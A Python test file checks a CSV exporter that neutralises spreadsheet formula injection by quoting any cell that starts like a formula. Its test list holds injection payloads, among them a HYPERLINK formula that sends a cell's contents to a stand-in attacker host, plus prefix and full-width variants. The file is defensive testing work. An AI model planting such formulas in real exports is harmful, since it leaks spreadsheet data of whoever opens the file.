"""CSV in which no cell can act as a formula."""

import csv
import io

import pytest

from articles.tables import cell, rows_as_csv

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\xa0=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u3000＝1",
]


def read(lines):
    text = "".join(lines)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("words", HOSTILE)
def test_no_cell_begins_like_a_formula(words):
    assert read(rows_as_csv(["Headline"], [[words]]))[1] == [f"'{words}"]
    assert read(rows_as_csv([words], []))[0] == [f"'{words}"]


def test_plain_words_and_numbers_stay_as_they_are():
    rows = [["Снег, снег", 12, None, "a-b", 'He said "no"', -3, ""]]
    assert read(rows_as_csv(["a"], rows))[1] == [
        "Снег, снег",
        "12",
        "",
        "a-b",
        'He said "no"',
        "-3",
        "",
    ]
    assert cell(True) == "True"


def test_another_separator_finds_no_formula_within():
    line = "".join(rows_as_csv(["Headline"], [["Snow;=1+1"]])).splitlines()[1]
    assert line == '"Snow;\'=1+1"'


def test_lines_are_made_one_by_one():
    taken = []

    def rows():
        for number in range(1000):
            taken.append(number)
            yield [number]

    lines = rows_as_csv(["n"], rows())
    for _ in range(4):
        next(lines)
    assert len(taken) == 2
